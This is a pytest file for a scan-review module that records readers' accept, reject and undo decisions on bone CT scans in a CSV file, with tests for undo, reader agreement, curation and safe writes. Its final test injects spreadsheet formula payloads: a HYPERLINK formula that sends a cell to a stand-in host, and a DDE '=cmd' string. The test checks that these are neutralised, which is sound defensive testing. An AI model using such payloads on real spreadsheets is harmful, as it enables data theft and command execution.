"""Reviews: every decision on disk at once, undone, resumed, obeyed by curation, and compared between readers."""

from __future__ import annotations

import csv
import os
from concurrent.futures import ThreadPoolExecutor
from unittest.mock import Mock

import numpy as np
import pandas as pd
import pytest
from sklearn.metrics import cohen_kappa_score

from deepqct.cohort import ReviewError, decide, keep_cohort, keep_splits, load_cohort, read_reviews, reader_agreement
from deepqct.cohort.reviews import COLUMNS, REVIEWS, decisions_of, rejected, reviewed, standing, still_open
from deepqct.curation import curate
from deepqct.folder import Run, read_table
from deepqct.networks import Recipe
from deepqct.networks.data import items_of
from deepqct.virtual import new_cohort


def scans(n: int = 3) -> pd.DataFrame:
    """The scans of a few women."""
    return pd.DataFrame(
        {"participant_id": [f"sub-{i // 2 + 1:04d}" for i in range(2 * n)], "site": ["wrist", "ankle"] * n}
    )


def test_a_decision_is_on_disk_at_once_and_can_be_taken_back(tmp_path):
    """A browser that dies must cost nothing, and a slip of the hand must leave its trace."""
    scan = {"reviewer": "AB", "participant_id": "sub-0001", "site": "wrist"}
    decide(tmp_path, **scan, decision="accept", motion_grade=2)
    decide(tmp_path, **scan, decision="reject", motion_grade=5, remark='moved, "twice"\nindeed')
    assert (tmp_path / REVIEWS).read_text().splitlines()[0] == ",".join(COLUMNS)
    assert rejected(read_reviews(tmp_path)) == {("sub-0001", "wrist")}
    assert read_reviews(tmp_path)["remark"].tolist() == ["", 'moved, "twice" indeed']
    decide(tmp_path, **scan, decision="undo")
    (left,) = standing(read_reviews(tmp_path)).to_dict("records")
    assert (left["decision"], left["motion_grade"]) == ("accept", 2)
    assert rejected(read_reviews(tmp_path)) == set()
    decide(tmp_path, **scan, decision="undo")
    decide(tmp_path, **scan, decision="undo")
    assert standing(read_reviews(tmp_path)).empty
    assert len(read_reviews(tmp_path)) == 5


def test_a_reader_goes_on_at_the_first_scan_that_she_left_open(tmp_path):
    """What another reader decided, or what she took back, is still open to her."""
    assert read_reviews(tmp_path).empty
    assert len(still_open(scans(), read_reviews(tmp_path), reviewer="AB")) == 6
    decide(tmp_path, reviewer="AB", participant_id="sub-0001", site="wrist", decision="accept")
    decide(tmp_path, reviewer="AB", participant_id="sub-0001", site="ankle", decision="accept")
    decide(tmp_path, reviewer="CD", participant_id="sub-0002", site="wrist", decision="reject")
    decide(tmp_path, reviewer="AB", participant_id="sub-0001", site="ankle", decision="undo")
    left = still_open(scans(), read_reviews(tmp_path), reviewer="AB")
    assert left[["participant_id", "site"]].iloc[0].tolist() == ["sub-0001", "ankle"]
    assert len(left) == 5


def test_two_readers_are_compared_as_scikit_learn_does(tmp_path):
    """A kappa of one's own making must be the known one."""
    rng = np.random.default_rng(3)
    truth = rng.integers(1, 6, 40)
    grades = {who: np.clip(truth + rng.integers(-1, 2, 40), 1, 5) for who in ("AB", "CD")}
    for who, values in grades.items():
        for i, grade in enumerate(values):
            word = "reject" if grade > 3 else "accept"
            person = f"sub-{i:04d}"
            decide(tmp_path, reviewer=who, participant_id=person, site="wrist", decision=word, motion_grade=int(grade))
    table = reader_agreement(read_reviews(tmp_path)).set_index("what")
    weighted = cohen_kappa_score(grades["AB"], grades["CD"], weights="quadratic")
    plain = cohen_kappa_score(grades["AB"] > 3, grades["CD"] > 3)
    assert table.loc["motion_grade", "kappa"] == pytest.approx(weighted)
    assert table.loc["decision", "kappa"] == pytest.approx(plain)
    assert (table["n"] == 40).all()
    assert table["low"].lt(table["kappa"]).all()
    assert table["high"].gt(table["kappa"]).all()
    assert reader_agreement(read_reviews(tmp_path).query("reviewer == 'AB'")).empty


@pytest.mark.parametrize(
    ("wrong", "said"),
    [
        ({"decision": "maybe"}, r"'wrist', 'maybe' is no decision"),
        ({"motion_grade": 6}, r"motion_grade is 6; use 1 to 5"),
        ({"reviewer": " "}, r"reviewer is empty"),
    ],
)
def test_what_is_no_decision_is_refused(tmp_path, wrong, said):
    """A word that curation does not know would silently keep a scan."""
    good = {"reviewer": "AB", "participant_id": "sub-0001", "site": "wrist", "decision": "accept"}
    with pytest.raises(ReviewError, match=said):
        decide(tmp_path, **(good | wrong))
    assert not (tmp_path / REVIEWS).exists()


def test_a_spoilt_line_is_named(tmp_path):
    """Someone will open the file in a spreadsheet."""
    decide(tmp_path, reviewer="AB", participant_id="sub-0001", site="wrist", decision="accept")
    text = (tmp_path / REVIEWS).read_text()
    (tmp_path / REVIEWS).write_text(text.replace("accept", "ok"))
    with pytest.raises(ReviewError, match=r"row 2: decision is 'ok'"):
        read_reviews(tmp_path)
    (tmp_path / REVIEWS).write_text("who,what\n")
    with pytest.raises(ReviewError, match="has the columns who, what"):
        read_reviews(tmp_path)


def test_curation_leaves_the_rejected_out_until_they_are_taken_back(tmp_path):
    """Indices and networks alike: a scan that a reader rejected counts nowhere, and its remark goes nowhere."""
    folder = new_cohort(tmp_path / "virtual", n=4, voxel_mm=0.3, slices=4, prevalence=0.5, seed=4)
    run = Run(tmp_path / "run")
    cohort = load_cohort(folder)
    keep_cohort(cohort, run)
    keep_splits(cohort, run, protocols="all", folds=2, repeats=1, test_fraction=0.1, seed=1)
    curate(cohort, run, image_px=32)
    assert len(read_table(run.indices)) == 16
    decision = {"reviewer": "AB", "participant_id": "sub-0002", "site": "wrist"}
    decide(folder, **decision, decision="reject", remark="Mrs Planted moved")
    table = curate(load_cohort(folder), run, image_px=32).set_index(["participant_id", "site"])
    assert table.loc[("sub-0002", "wrist"), ["status", "reason"]].tolist() == ["rejected", "rejected in review.csv"]
    assert (table["status"] == "rejected").sum() == 1
    left = read_table(run.indices)
    assert left.query("participant_id == 'sub-0002'")["bone"].tolist() == ["tibia", "fibula"]
    people = items_of(run, bone="radius", protocol="all", repeat=0, recipe=Recipe(images=1))["participant_id"]
    assert sorted(people) == ["sub-0001", "sub-0003", "sub-0004"]
    assert not [path for path in run.folder.rglob("*") if path.is_file() and b"Planted" in path.read_bytes()]
    decide(folder, **decision, decision="undo")
    assert (curate(load_cohort(folder), run, image_px=32)["status"] == "curated").all()
    assert len(read_table(run.indices)) == 16


def test_a_decision_that_cannot_be_written_is_an_error_that_says_so(tmp_path):
    """A reader who believes that it was kept never comes back to the scan."""
    (tmp_path / REVIEWS).symlink_to(tmp_path / "nowhere" / REVIEWS)
    with pytest.raises(
        OSError, match=r"'reject' of AB on P1, wrist, was NOT kept: review.csv .*\(No such file"
    ) as error:
        decide(tmp_path, reviewer="AB", participant_id="P1", site="wrist", decision="reject")
    assert str(tmp_path) not in str(error.value)


def test_a_line_is_whole_or_not_there(tmp_path, monkeypatch):
    """A disk that fills up within a line would spoil the line of the next decision too."""
    scan = {"reviewer": "AB", "participant_id": "P1", "site": "wrist"}
    decide(tmp_path, **scan, decision="accept")
    before, write = (tmp_path / REVIEWS).read_bytes(), os.write
    monkeypatch.setattr("os.write", lambda handle, line: write(handle, line[:9]))
    with pytest.raises(OSError, match="No space left"):
        decide(tmp_path, **scan, decision="reject")
    assert (tmp_path / REVIEWS).read_bytes() == before
    monkeypatch.undo()
    monkeypatch.setattr("os.fsync", Mock(side_effect=OSError(5, "Input/output error")))
    with pytest.raises(OSError, match="Input/output error"):
        decide(tmp_path, **scan, decision="reject")
    assert (tmp_path / REVIEWS).read_bytes() == before


def test_a_file_without_a_last_line_break_gets_one_before_the_next_decision(tmp_path):
    """An editor may have taken it away; two decisions in one line are none."""
    for content in (None, b""):
        if content is not None:
            (tmp_path / REVIEWS).write_bytes(content)
        for decision in ("accept", "reject"):
            decide(tmp_path, reviewer="AB", participant_id="P1", site="wrist", decision=decision)
            (tmp_path / REVIEWS).write_bytes((tmp_path / REVIEWS).read_bytes().rstrip())
        assert read_reviews(tmp_path)["decision"].tolist() == ["accept", "reject"]


def test_readers_at_work_at_once_lose_no_decision(tmp_path):
    """Each has her own kernel, and there is one file, with one line of names."""

    def judge(reader: str) -> None:
        for i in range(20):
            decide(tmp_path, reviewer=reader, participant_id=f"sub-{i:04d}", site="wrist", decision="accept")

    with ThreadPoolExecutor(4) as pool:
        list(pool.map(judge, "ABCD"))
    assert read_reviews(tmp_path)["reviewer"].value_counts().to_dict() == dict.fromkeys("ABCD", 20)


def test_initials_in_capitals_and_small_letters_are_one_reader(tmp_path):
    """Else her agreement with herself is reported as that of two readers, and she judges every scan twice."""
    for who, decision, grade in (("AB", "accept", 2), (" ab ", "reject", 4), ("CD", "accept", 1)):
        decide(tmp_path, reviewer=who, participant_id="sub-0001", site="wrist", decision=decision, motion_grade=grade)
    reviews = read_reviews(tmp_path)
    found = standing(reviews)
    assert found[["reviewer", "decision"]].to_numpy().tolist() == [["AB", "reject"], ["CD", "accept"]]
    table = scans()
    assert reviewed(table, reviews)["reviewer"].tolist() == ["AB", "CD"]
    assert len(still_open(table, reviews, reviewer="aB")) == len(table) - 1
    assert reader_agreement(reviews)["reader_b"].unique().tolist() == ["CD"]
    decide(tmp_path, reviewer="Ab", participant_id="sub-0001", site="wrist", decision="undo")
    assert standing(read_reviews(tmp_path))["decision"].tolist() == ["accept", "accept"]


def test_no_text_of_a_reader_is_run_as_a_formula_and_ids_come_back(tmp_path):
    reader, person = '=HYPERLINK("http://x.example/?"&B2,"AB")', "=P1"
    for decision in ("accept", "undo", "reject"):
        decide(
            tmp_path, reviewer=reader, participant_id=person, site="wrist", decision=decision, remark="=cmd|' /C'!A0"
        )
    with (tmp_path / "review.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
    assert rejected(read_reviews(tmp_path)) == {(person, "wrist")}
    assert len(decisions_of(read_reviews(tmp_path), reviewer=reader)) == 1
    decide(tmp_path, reviewer="O'Hara", participant_id="P2", site="wrist", decision="accept")
    assert read_reviews(tmp_path)["participant_id"].tolist()[-1] == "P2"
    assert len(decisions_of(read_reviews(tmp_path), reviewer="o'hara")) == 1
